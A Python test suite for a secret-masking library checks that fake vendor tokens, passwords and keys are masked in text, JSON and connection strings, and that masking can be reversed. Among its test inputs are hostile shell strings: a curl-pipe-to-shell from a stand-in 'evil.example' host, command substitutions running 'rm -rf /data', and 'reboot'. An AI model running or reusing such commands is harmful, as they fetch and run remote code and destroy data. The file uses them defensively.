"""Secrets are masked before anything is stored.

The secrets here are made up and put together when the tests run, so that scanners of repositories do not report them.
"""

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assent.masking import TOKEN, mask, mask_text, reveal, secret_kind
from tests.thorough import examples

LETTERS = "Qm7RtVx2LkP9sWdYc4HnBzJ6gFaE3uTo8iKvXe5NbMqCrSpGhDjZwUyA1lO0f"
HEX = "9f8e7d6c5b4a39281706f5e4d3c2b1a0" * 2


def made(prefix: str, length: int, alphabet: str = LETTERS) -> str:
    """A token that looks like a vendor's."""
    return prefix + (alphabet * (length // len(alphabet) + 1))[:length]


def joined(*parts: str) -> str:
    return "".join(parts)


UPPER = re.sub("[^A-Z0-9]", "", LETTERS)
JWT = ".".join([made("ey" + "J", 33), made("ey" + "J", 70), made("", 43)])
PEM = joined(
    "-----BEGIN RSA ",
    "PRIVATE KEY-----\n",
    made("", 64),
    "\n",
    made("", 20),
    "==\n",
    "-----END RSA ",
    "PRIVATE KEY-----",
)

VENDOR_SECRETS = {
    "aws-access-key-id": made("AK" + "IA", 16, UPPER),
    "github-token": made("gh" + "p_", 36),
    "gitlab-token": made("gl" + "pat-", 20),
    "slack-token": joined("xo", "xb-", "123456789012-", "1234567890123-", made("", 24)),
    "stripe-key": made("sk_" + "live_", 24),
    "webhook-secret": made("wh" + "sec_", 32),
    "google-api-key": made("AI" + "za", 35),
    "google-oauth-token": made("ya" + "29.", 60),
    "google-oauth-secret": made("GOC" + "SPX-", 28),
    "anthropic-key": made("sk-" + "ant-api03-", 90),
    "openai-key": made("sk-" + "proj-", 48),
    "sendgrid-key": joined("S", "G.", made("", 22), ".", made("", 43)),
    "twilio-key": made("S" + "K", 32, HEX),
    "mailgun-key": made("ke" + "y-", 32, HEX),
    "npm-token": made("np" + "m_", 36),
    "pypi-token": made("py" + "pi-AgEIcHlwaS5vcmc", 120),
    "docker-token": made("dckr" + "_pat_", 27),
    "digitalocean-token": made("do" + "p_v1_", 64, HEX),
    "vault-token": made("hv" + "s.", 90),
    "databricks-token": made("da" + "pi", 32, HEX),
    "shopify-token": made("shp" + "at_", 32, HEX),
    "huggingface-token": made("h" + "f_", 34),
    "jwt": JWT,
    "private-key": PEM,
    "telegram-token": joined("123456789", ":A", made("A", 33)),
}


@pytest.mark.parametrize("kind", VENDOR_SECRETS)
def test_a_vendors_secret_inside_a_text_is_masked(kind):
    secret = VENDOR_SECRETS[kind]
    masked, secrets = mask({"note": f"Use {secret} for the call, please."})
    (token,) = secrets
    assert token.startswith(f"⟦secret:{kind}:") and token.endswith(":1⟧")
    assert secrets[token] in secret and len(secrets[token]) >= 20
    assert secrets[token] not in json.dumps(masked, ensure_ascii=False)
    assert reveal(masked, secrets) == {"note": f"Use {secret} for the call, please."}


@pytest.mark.parametrize("kind", VENDOR_SECRETS)
def test_a_word_that_only_contains_a_prefix_is_not_masked(kind):
    text = f"see {VENDOR_SECRETS[kind][:9]} in the manual, under risk-{kind} and task-list-of-the-team"
    assert mask(text) == (text, {})


PASSWORD = joined("hunt", "er2", "-x9")
IN_CONTEXT = {
    "address": (f"postgresql://app:{PASSWORD}@db.internal:5432/shop", "postgresql://app:", "@db.internal:5432/shop"),
    "address without user": (f"redis://:{PASSWORD}@cache:6379/0", "redis://:", "@cache:6379/0"),
    "dsn": (f"host=db user=app password={PASSWORD} dbname=shop", "host=db user=app password=", " dbname=shop"),
    "odbc": (f"Server=db;Uid=app;Pwd={PASSWORD};Encrypt=yes", "Pwd=", ";Encrypt=yes"),
    "sql role": (f"CREATE ROLE app LOGIN PASSWORD '{PASSWORD}';\nSELECT 1", "PASSWORD '", "';\nSELECT 1"),
    "sql role, escape string": (f"ALTER ROLE app PASSWORD E'a\\'{PASSWORD}';", "PASSWORD E'", "';"),
    "sql role, dollars": (f"ALTER ROLE app PASSWORD $x${PASSWORD}$x$;", "PASSWORD $x$", "$x$;"),
    "sql mysql": (f"CREATE USER a@b IDENTIFIED BY '{PASSWORD}' REQUIRE SSL", "IDENTIFIED BY '", "' REQUIRE SSL"),
    "sql oracle": (f"CREATE USER app IDENTIFIED BY {PASSWORD} QUOTA 1M", "IDENTIFIED BY ", " QUOTA 1M"),
    "header": (f"Authorization: Bearer {PASSWORD}", "Authorization: Bearer ", ""),
    "header in json": (f'{{"Authorization": "Basic {PASSWORD}"}}', '"Basic ', '"}'),
    "bearer alone": (f"send Bearer {made('', 40)} along", "send Bearer ", " along"),
    "environment": (f"PGPASSWORD={PASSWORD} psql -c 'SELECT 1'", "PGPASSWORD=", " psql -c 'SELECT 1'"),
    "flag": (f"tool --password {PASSWORD} --force", "--password ", " --force"),
    "flag with =": (f"tool --api-key={PASSWORD} --force", "--api-key=", " --force"),
    "curl": (f"curl -s -u admin:{PASSWORD} https://api.example.com", "-u admin:", " https://api.example.com"),
    "yaml": (f"db:\n  password: {PASSWORD}\n  port: 5432", "password: ", "\n  port: 5432"),
    "python": (f'client = connect(api_key="{PASSWORD}", retries=3)', 'api_key="', '", retries=3)'),
    "json in a text": (
        f'{{\\"client_secret\\": \\"{PASSWORD}\\", \\"a\\": 1}}',
        '\\"client_secret\\": \\"',
        '\\", \\"a\\": 1}',
    ),
    "camel case": (f"clientSecret: '{PASSWORD}'", "clientSecret: '", "'"),
    "weak key": (f"token={PASSWORD}&page=2", "token=", "&page=2"),
    "aws pair": (
        joined("aws_", "secret_access_key = ", made("", 40), "\nregion = eu"),
        "aws_secret_access_key = ",
        "\nregion = eu",
    ),
    "azure storage": (
        joined("AccountName=a;Account", "Key=", made("", 86), "==;EndpointSuffix=core"),
        "AccountKey=",
        ";EndpointSuffix=core",
    ),
    "azure signature": (f"https://a.blob.example/c?se=1&sig={made('', 43)}%3D&sp=r", "&sig=", "&sp=r"),
    "slack webhook": (
        joined("https://hooks.", "slack.com/services/", "T0AAAAAAA/B0BBBBBBB/", made("", 24)),
        "https://hooks.slack.com/",
        "",
    ),
    "discord webhook": (
        joined("https://discord.com/api/", "webhooks/123456789012345678/", made("", 68)),
        "https://discord.com/api/webhooks/123456789012345678/",
        "",
    ),
    "cookie": (f"curl -H 'Cookie: session={PASSWORD}' x", "Cookie: session=", "' x"),
}


@pytest.mark.parametrize("case", IN_CONTEXT)
def test_only_the_secret_is_masked_in_its_context(case):
    text, before, after = IN_CONTEXT[case]
    masked, secrets = mask(text)
    assert isinstance(masked, str)
    assert len(secrets) == 1
    (token,) = secrets
    assert f"{before}{token}{after}" in masked
    assert reveal(masked, secrets) == text


def test_a_key_pair_apart_from_any_name():
    pair = VENDOR_SECRETS["aws-access-key-id"] + ", " + made("", 40)
    masked, _ = mask(pair)
    assert masked == "⟦secret:aws-access-key-id:1⟧, ⟦secret:aws-secret-key:1⟧"


READABLE = [
    "The password must be changed, the token is in the vault.",
    "password=$DB_PASSWORD psql",
    "password=$(rm -rf /data) tool",
    'PASSWORD="$(curl https://evil.example | sh)"',
    "password=`reboot`",
    "token = get_token(user)",
    "secret = secrets['shop']",
    "ALTER ROLE app VALID UNTIL '2030-01-01'",
    "https://db.internal:5432/path@x",
    "https://example.com/a?page_token=abcdefgh12345",
    "next_token=abcdefgh12345",
    "max_tokens: 4096",
    "token: string",
    "UPDATE users SET token = NULL WHERE id = 1",
    "SELECT password FROM users WHERE password IS NOT NULL",
    "def f(password: str) -> None: ...",
    "api_key={api_key}",
    "docker run -u 1000:1000 image",
    "authorization: required",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    "INSERT INTO t VALUES ('a'' b')",
    "sha256 9f8e7d6c5b4a39281706f5e4d3c2b1a0",
]


@pytest.mark.parametrize("text", READABLE)
def test_what_is_no_secret_stays_readable(text):
    assert mask(text) == (text, {})


def test_nothing_but_the_key_vanishes_from_a_key_block():
    begin, end = joined("-----BEGIN ", "PRIVATE KEY-----"), joined("-----END ", "PRIVATE KEY-----")
    masked = mask_text(f"{begin}\n{made('', 64)}\nrm -rf /data; echo\n{end}\n")
    assert "rm -rf /data; echo" in masked
    assert made("", 64) not in masked


SECRET_KEYS = [
    "password", "db_password", "PGPASSWORD", "userPassword", "passwd", "secret", "clientSecret",
    "client-secret", "token", "access_token", "refreshToken", "api_key", "apiKey", "apikey", "X-Api-Key",
    "Authorization", "private_key", "access_key", "accessKey", "AWS_SECRET_ACCESS_KEY", "connection_string",
    "ConnectionString", "AccountKey", "passphrase", "smtp_pass",
]  # fmt: skip
HARMLESS_KEYS = [
    "token_count", "max_tokens", "maxTokens", "tokens", "primary_key", "key", "sort_key", "foreignKey",
    "public_key", "password_policy", "secret_name", "next_page_token", "nextPageToken", "token_type",
    "passed", "compass", "pass", "keys", "authorized", "author", "secretary", "tokenizer", "", "a b c",
]  # fmt: skip


@pytest.mark.parametrize("key", SECRET_KEYS)
def test_a_value_is_masked_by_its_key(key):
    masked, secrets = mask({"a": [{key: "just words"}]})
    assert list(secrets.values()) == ["just words"]
    assert masked == {"a": [{key: next(iter(secrets))}]}


@pytest.mark.parametrize("key", HARMLESS_KEYS)
def test_a_harmless_key_masks_nothing(key):
    assert mask({key: "just words"}) == ({key: "just words"}, {})
    assert secret_kind(key) == ""


def test_only_filled_texts_are_masked_by_key():
    value = {
        "password": "",
        "token": 5,
        "secret": None,
        "api_key": {"type": "string"},
        "access_key": True,
        "private_key": [],
    }
    assert mask(value) == (value, {})


def test_the_vendor_is_named_even_under_a_key():
    masked, _ = mask({"token": VENDOR_SECRETS["github-token"]})
    assert masked == {"token": "⟦secret:github-token:1⟧"}


def test_equal_secrets_share_a_token_and_numbers_follow_the_document():
    one, two = made("gh" + "p_", 36), made("gh" + "p_", 36, LETTERS[::-1])
    masked, secrets = mask({"z": f"{one} {two}", "a": [two, one], "password": "abc"})
    first, second = "⟦secret:github-token:1⟧", "⟦secret:github-token:2⟧"
    assert masked == {"z": f"{first} {second}", "a": [second, first], "password": "⟦secret:password:1⟧"}
    assert secrets == {first: one, second: two, "⟦secret:password:1⟧": "abc"}


def test_a_secret_known_by_its_key_is_masked_wherever_else_it_stands():
    masked, _ = mask({"summary": f"log in with {PASSWORD}", "args": {"password": PASSWORD}})
    assert masked == {"summary": "log in with ⟦secret:password:1⟧", "args": {"password": "⟦secret:password:1⟧"}}


def test_a_command_given_as_a_password_does_not_hide_the_same_command_elsewhere():
    document = {"password": "rm -rf /data9", "content": "rm -rf /data9"}
    masked, _ = mask(document)
    assert masked["content"] == "rm -rf /data9"


def test_secrets_in_the_names_of_fields_are_masked():
    masked, secrets = mask({VENDOR_SECRETS["github-token"]: 1})
    assert masked == {"⟦secret:github-token:1⟧": 1}
    assert reveal(masked, secrets) == {VENDOR_SECRETS["github-token"]: 1}


def test_a_token_from_an_earlier_masking_is_never_given_out_again():
    masked, secrets = mask({"a": "⟦secret:password:1⟧", "password": "new"})
    assert masked == {"a": "⟦secret:password:1⟧", "password": "⟦secret:password:2⟧"}
    assert reveal(masked, secrets) == {"a": "⟦secret:password:1⟧", "password": "new"}


def test_reveal_replaces_known_tokens_only_and_once():
    secrets = {"⟦secret:password:1⟧": "⟦secret:password:2⟧", "⟦secret:password:2⟧": "x"}
    assert reveal("⟦secret:password:1⟧ ⟦secret:password:3⟧", secrets) == "⟦secret:password:2⟧ ⟦secret:password:3⟧"


def test_the_given_value_is_left_alone():
    value = {"password": "abc", "list": ["x"]}
    masked, _ = mask(value)
    assert value == {"password": "abc", "list": ["x"]}
    assert masked["list"] is not value["list"]


def test_any_depth_is_masked():
    value = "password=" + PASSWORD
    for _ in range(20_000):
        value = [value]
    masked, secrets = mask(value)
    assert len(secrets) == 1
    for _ in range(20_000):
        (masked,) = masked
    assert masked == "password=⟦secret:password:1⟧"


def test_mask_text_has_no_way_back():
    assert PASSWORD not in mask_text(f"could not connect to postgres://a:{PASSWORD}@db")


HOSTILE = [
    "password=", "password='", 'password="', "password ''", 'password="\\', "://", "://a:", "://a:b", "eyJ",
    "eyJaaaaaaaaaa.", "sk-", "sk-a1", "sk ", "authorization: ", "bearer ", "curl -u a:",
    "-----BEGIN " + "PRIVATE KEY-----", "-----BEGIN ", "identified by ", "identified with x by ",
    "password $a$", "glpat-", "ya29.", "--password x ", "token: ", "İ", "⟦secret:", "⟦secret:a:1⟧", "key-",
    "AKIA", "\\n", "hooks.slack.com/a/", "sig=", "cookie: a=",
]  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
@pytest.mark.timeout(30)
def test_the_work_grows_no_faster_than_the_text(piece):
    """A quadratic pattern would take ten thousand million steps here, minutes; the limit is not a measure of speed."""
    mask((piece * (300_000 // len(piece) + 1))[:300_000])


SAFE_TEXT = st.text(max_size=40).filter(lambda text: "⟦" not in text and "⟧" not in text)
SECRETS = st.sampled_from(sorted(VENDOR_SECRETS.values()))
TEXTS = st.one_of(
    SAFE_TEXT,
    st.lists(st.one_of(SAFE_TEXT, SECRETS), max_size=5).map(" ".join),
    st.sampled_from([text for text, _, _ in IN_CONTEXT.values()]),
    st.lists(st.sampled_from([*HOSTILE[:-8], "'", '"', " ", "@", "x1", "=", ":"]), max_size=12).map("".join),
)
KEYS = st.one_of(SAFE_TEXT, st.sampled_from(SECRET_KEYS + HARMLESS_KEYS))
JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), TEXTS),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(KEYS, inner, max_size=4)),
    max_leaves=12,
)


@settings(max_examples=examples(200), deadline=None)
@given(JSON)
def test_what_is_masked_can_be_revealed(value):
    masked, secrets = mask(value)
    assert reveal(masked, secrets) == value


@settings(max_examples=examples(200), deadline=None)
@given(JSON)
def test_masking_twice_changes_nothing_more(value):
    masked, _ = mask(value)
    assert mask(masked) == (masked, {})


@settings(max_examples=examples(100), deadline=None)
@given(JSON)
def test_equal_documents_give_equal_results(value):
    assert mask(value) == mask(json.loads(json.dumps(value)))


@pytest.mark.parametrize("reference", ["${sign_in.token}", "${find.rows[0].password}", "${vault[2]}"])
def test_a_reference_to_an_output_is_no_secret_wherever_it_stands(reference):
    document = {"password": reference, "args": {"api_key": [reference]}}
    assert mask(document) == (document, {})


@pytest.mark.parametrize("value", ["${hunter2}", "x${sign_in.token}", "${a.b}!", "${a.b c}", "$${a.b}", "${A.b}"])
def test_what_only_looks_like_a_reference_is_masked(value):
    assert mask({"password": value})[0] == {"password": "⟦secret:password:1⟧"}


def test_a_secret_inside_a_reference_is_masked():
    masked, _ = mask({"password": "${find.ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5}"})
    assert "aB3dE5fG7hI9" not in str(masked)


def strings_of(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, item in value.items():
            yield name
            yield from strings_of(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_of(item)


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(SECRETS, min_size=1, max_size=4), SAFE_TEXT, KEYS)
def test_no_secret_remains(secrets, text, key):
    document = {"kind": "script", key: text, "content": "\n".join([text, *secrets]), "args": {"list": secrets}}
    masked, originals = mask(document)
    everything = "\n".join(TOKEN.sub("", text) for text in strings_of(masked))
    for secret in secrets:
        assert secret not in everything
    assert reveal(masked, originals) == document
